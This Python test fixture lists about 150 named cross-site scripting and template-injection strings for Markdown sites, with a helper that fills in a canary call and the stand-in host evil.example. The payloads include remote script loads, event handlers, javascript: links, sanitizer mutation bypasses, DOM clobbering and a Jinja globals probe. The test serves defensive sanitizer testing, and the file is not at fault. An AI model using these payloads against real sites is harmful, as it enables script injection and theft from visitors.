"""Strings that try to make a page act, each with its own name, and how to tell that one did.

From the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, the mutations that
got through DOMPurify and Bleach, and what the themes' own scripts react to. `CALL` stands for
JavaScript that calls the canary, `EVIL` for an address on another host, `BASE64` for a document
that calls it; each place where a string is written gets a number of its own.
"""

from __future__ import annotations

from base64 import b64encode

EVIL_HOST = "https://evil.example/"

# Names of strings -> what one would write in the Markdown of a page.
INJECTIONS: dict[str, str] = {
    # Scripts.
    "script": "<script>CALL</script>",
    "script in capitals": "<ScRiPt>CALL</sCrIpT>",
    "script with a space": "<script >CALL</script\t>",
    "script with a slash": '<script/x="y">CALL</script/z>',
    "script from elsewhere": "<script src=EVIL></script>",
    "script of another protocol": "<script src=EVILBARE></script>",
    "script as a module": '<script type="module">CALL</script>',
    "script from data": '<script src="data:text/javascript,CALL"></script>',
    "script in a paragraph": "Un texte <script>CALL</script> au milieu.",
    "script twice": "<scr<script>ipt>CALL</scr</script>ipt>",
    "script unclosed": "<script>CALL//",
    "script after a title": "</title><script>CALL</script>",
    "script after a style": "</style><script>CALL</script>",
    "script after a script": "</script><script>CALL</script>",
    "script after a text area": "</textarea><script>CALL</script>",
    "script after a comment": "--><script>CALL</script><!--",
    "script after JSON": '"}}</script><script>CALL</script>',
    "script after an attribute": '"><script>CALL</script>',
    "script in a comment of old": "<!--[if gte IE 4]><script>CALL</script><![endif]-->",
    "script in CDATA": "<![CDATA[<script>CALL</script>]]>",
    "script in a processing instruction": "<?xml ><script>CALL</script>?>",
    "script in a comment that ends early": "<!--><script>CALL</script>-->",
    "script in a comment that ends with a bang": "<!-- --!><script>CALL</script>",
    # Handlers.
    "image onerror": "<img src=x onerror=CALL>",
    "image onerror after an attribute": '"><img src=x onerror=CALL>',
    "image onerror after an apostrophe": "'><img src=x onerror=CALL>",
    "image onerror with slashes": "<img/src=x/onerror=CALL>",
    "image onerror in capitals": "<IMG SRC=x OnErRoR=CALL>",
    "image onerror on two lines": "<img src=x\nonerror=CALL>",
    "image onerror between graves": "<img src=`x` onerror=CALL>",
    "image onerror in entities": '<img src=x onerror="&#99;&#x61;nary(NUMBER)">',
    "image onerror unclosed": "<img src=x onerror=CALL//",
    "image onload": '<img src="data:image/gif;base64,R0lGODlh" onload=CALL onerror=CALL>',
    "image with a source set": '<img srcset="EVIL 1x" alt="">',
    "attribute out of quotes": 'x" onmouseover="CALL" y="',
    "attribute out of apostrophes": "x' onmouseover='CALL' y='",
    "attribute out of nothing": "x onmouseover=CALL autofocus tabindex=1 ",
    "body onload": "<body onload=CALL>",
    "details ontoggle": "<details open ontoggle=CALL>Un texte</details>",
    "input autofocus": "<input autofocus onfocus=CALL>",
    "select autofocus": "<select autofocus onfocus=CALL></select>",
    "link with a focus": "<a href=# id=x tabindex=1 onfocus=CALL>lien</a>",
    "video": "<video src=x onerror=CALL></video>",
    "video source": "<video><source onerror=CALL></video>",
    "audio": "<audio src=x onerror=CALL>",
    "marquee": "<marquee onstart=CALL>texte</marquee>",
    "animation": (
        '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=CALL>x</b>'
    ),
    "transition": '<b style="transition:color 1ms" ontransitionend=CALL onclick=CALL>x</b>',
    "button": "<button onclick=CALL>Lire</button>",
    "custom element": "<x-y onclick=CALL>texte</x-y>",
    "popover": (
        "<button popovertarget=p>Ouvrir</button><div popover id=p onbeforetoggle=CALL>x</div>"
    ),
    "content visibility": (
        "<b oncontentvisibilityautostatechange=CALL style=content-visibility:auto>x</b>"
    ),
    # Addresses.
    "javascript in a link": "[lire](javascript:CALL)",
    "javascript in a reference": "[lire][r]\n\n[r]: javascript:CALL",
    "javascript in an autolink": "<javascript:CALL>",
    "javascript in raw HTML": '<a href="javascript:CALL">lire</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:CALL">lire</a>',
    "javascript in entities": '<a href="&#106;avascript:CALL">lire</a>',
    "javascript in entities without an end": '<a href="&#0000106avascript&colon;CALL">lire</a>',
    "javascript with a tab": '<a href="java&Tab;script:CALL">lire</a>',
    "javascript with a line break": '<a href="java&NewLine;script:CALL">lire</a>',
    "javascript with a null": '<a href="java&#0;script:CALL">lire</a>',
    "javascript after a control character": '<a href="&#1;javascript:CALL">lire</a>',
    "javascript after spaces": '<a href=" &#32; javascript:CALL">lire</a>',
    "javascript in a Markdown entity": "[lire](java&#115;cript:CALL)",
    "javascript after a comment line": '<a href="javascript://x%0aCALL">lire</a>',
    "javascript in an image": "![image](javascript:CALL)",
    "javascript in a frame": '<iframe src="javascript:parent.CALL"></iframe>',
    "javascript in an object": '<object data="javascript:CALL"></object>',
    "javascript in a form": "<form action=javascript:CALL><input type=submit></form>",
    "javascript in a button": "<form><button formaction=javascript:CALL>Lire</button></form>",
    "javascript in an area": "<map name=m><area href=javascript:CALL></map>",
    "javascript in a base": "<base href=javascript:CALL//>[lire](#)",
    "vbscript": '<a href="vbscript:CALL">lire</a>',
    "data in a link": '<a href="data:text/html;base64,BASE64">lire</a>',
    "data in a Markdown link": "[lire](data:text/html;base64,BASE64)",
    "data in a frame": '<iframe src="data:text/html;base64,BASE64"></iframe>',
    "data in an object": '<object data="data:text/html;base64,BASE64"></object>',
    "data in an embed": '<embed src="data:image/svg+xml;base64,SVG64">',
    # BoundedReader that fetch, replace or lead away.
    "frame": "<iframe src=EVIL></iframe>",
    "frame with its document": '<iframe srcdoc="&lt;script&gt;CALL&lt;/script&gt;"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=EVIL">',
    "base": '<base href="EVIL">',
    "style sheet": "<link rel=stylesheet href=EVIL>",
    "style import": "<style>@import url(EVIL);</style>",
    "style background": '<p style="background:url(EVIL)">texte</p>',
    "style expression": '<p style="width:expression(CALL)">texte</p>',
    "style list": '<ul style="list-style-image:url(EVIL)"><li>texte</li></ul>',
    "preload": "<link rel=preload as=image href=EVIL>",
    "picture": "<picture><source srcset=EVIL><img alt=></picture>",
    "image from elsewhere": "![image](EVIL)",
    "image of another protocol": "![image](EVILBARE)",
    "image with a backslash": '<img src="/\\evil.example/NUMBER">',
    "image with a tab": '<img src="/&Tab;/evil.example/NUMBER">',
    "table background": "<table background=EVIL><tr><td>texte</td></tr></table>",
    "input image": "<input type=image src=EVIL>",
    "form": "<form action=EVIL><button>Envoyer</button></form>",
    "video poster": "<video poster=EVIL></video>",
    "template": "<template><script>CALL</script></template>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=CALL></template></div>",
    "text without format": "<plaintext><script>CALL</script>",
    # What changes meaning when it is parsed again (mutation).
    "svg onload": "<svg onload=CALL>",
    "svg script": "<svg><script>CALL</script></svg>",
    "svg script in entities": "<svg><script>&#99;anary(NUMBER)</script></svg>",
    "svg animation": "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:CALL"><text x=9 y=20>lire</text></a></svg>',
    "svg set": (
        "<svg><a><set attributeName=href to=javascript:CALL /><text y=20>lire</text></a></svg>"
    ),
    "svg foreign object": "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=CALL></style></svg>",
    "svg paragraph style": '<svg></p><style><a id="</style><img src=x onerror=CALL>">',
    "svg title": "<svg><title><img src=x onerror=CALL></title></svg>",
    "math link": '<math><mtext href="javascript:CALL">lire</mtext></math>',
    "math style": "<math><style><img src=x onerror=CALL></style></math>",
    "math table": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=CALL&gt;">'
    ),
    "math form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    "math annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CALL></style>'
    ),
    "noscript": '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=CALL>"></xmp>',
    "noembed": '<noembed><p title="</noembed><img src=x onerror=CALL>">',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=CALL>">',
    "text area": '<textarea><p title="</textarea><img src=x onerror=CALL>">',
    "title element": '<title><p title="</title><img src=x onerror=CALL>">',
    "iframe text": '<iframe><p title="</iframe><img src=x onerror=CALL>">',
    "select": "<select><style></select><img src=x onerror=CALL></style></select>",
    "attribute left open": '<a title="<img src=x onerror=CALL>',
    "listing": "<listing>&lt;img src=x onerror=CALL&gt;</listing>",
    "entities": "&lt;img src=x onerror=CALL&gt;",
    "entities twice": "&amp;lt;img src=x onerror=CALL&amp;gt;",
    "entities in code": "`<img src=x onerror=CALL>`",
    # Markdown's own ways.
    "attributes in braces": "Un texte.\n{: onclick=CALL }",
    "attributes of a link": '[lire](#a){: onclick="CALL" href="javascript:CALL" }',
    "attributes of an image": '![image](x.png){: onerror="CALL" }',
    "attributes of an anchor": '## Un titre { #x"onmouseover="CALL }',
    "attributes of an anchor between apostrophes": "## Un titre { id='x\" onmouseover=\"CALL' }",
    "label of a heading": "## Un titre { data-toc-label='<img src=x onerror=CALL>' }",
    "label of a heading in entities": (
        "## Un titre { data-toc-label='&lt;img src=x onerror=CALL&gt;' }"
    ),
    "heading with a tag": "## Un <img src=x onerror=CALL> titre",
    "heading with a tag unclosed": "## Un titre <img src=x onerror=CALL //",
    "heading with entities": "## Un titre &lt;img src=x onerror=CALL&gt;",
    "title of a link": '[lire](#a "x\' onmouseover=CALL \\" onmouseover=CALL x=")',
    "alternative text": '![x" onerror="CALL](x.png)',
    "box": '!!! note "<img src=x onerror=CALL>"\n    Un texte.',
    "task list": "- [ ] <img src=x onerror=CALL>",
    "table": "| a | b |\n|---|:-:|\n| <img src=x onerror=CALL> | b |",
    "template leftover": (
        "{{ '<img src=x onerror=CALL>' }} {% raw %}<img src=x onerror=CALL>{% endraw %}"
    ),
    # What Material's own script would obey, were it there.
    "settings of the theme": (
        '<div id="__config">{"base":"EVIL","features":["navigation.instant"],"translations":{}}'
        "</div>"
    ),
    "settings of the theme in Markdown": (
        '{"base":"EVIL","features":["navigation.instant"],"translations":{}}\n{: #__config }'
    ),
    "diagram of the theme": '<pre class="mermaid"><code>graph TD</code></pre>',
    "component of the theme": (
        '<a data-md-component="source" href="https://github.com/evil/NUMBER">dépôt</a>'
    ),
    # What takes the place of what the site's own scripts look for (DOM clobbering).
    "place of the script": "<img name=currentScript id=currentScript src=x onerror=CALL>",
    "place of the head": "<a id=head name=head></a><form name=head><input name=append></form>",
    "place of the document": (
        "<form name=querySelector><input name=forms></form><a id=location name=location href=EVIL>"
        "</a><a id=defaultView></a><a id=defaultView name=location href=javascript:CALL></a>"
    ),
    "place of the search": (
        "<form data-search=page action=EVIL><input name=q><p class=search-trouble></p></form>"
        '<p id="site:search-field" class="search-list search-more" popover>x</p>'
    ),
    "place of a field in braces": '## Un titre { #site:search-field name=q data-search="page" }',
    "place of the boxes": (
        '- [ ] Un <input name=q> {: .task-list-item .ticks #site:lettre data-print="" }'
    ),
    "place of a day": (
        '[lire](#a){: data-until="2000-01-01" data-after="2000-01-01" data-copy="EVIL" hidden="" }'
    ),
    "place of a word": '<button popovertarget="site:contenu">x</button><dialog open>x</dialog>',
    # What other programs would fill in.
    "template of Jinja": (
        "{{ config }} {{ page.meta }} {% include 'base.html' %} {% import 'os' as o %}"
        "{{ ''.__class__.__mro__ }}{{ cycler.__init__.__globals__ }} {# remarque #} EVIL"
    ),
}


def written(injection: str, number: int) -> str:
    """An injection as it is written in one place.

    Args:
        injection: one of the values of `INJECTIONS`.
        number: what the canary will say.
    """
    call = f"canary({number})"
    document = b64encode(f"<script>{call}</script>".encode()).decode()
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{call}"/>'
    replacements = {
        "EVILBARE": f"{EVIL_HOST}{number}".removeprefix("https:"),
        "EVIL": f"{EVIL_HOST}{number}",
        "BASE64": document,
        "SVG64": b64encode(drawing.encode()).decode(),
        "NUMBER": str(number),
        "CALL": call,
    }
    for name, value in replacements.items():
        injection = injection.replace(name, value)
    return injection
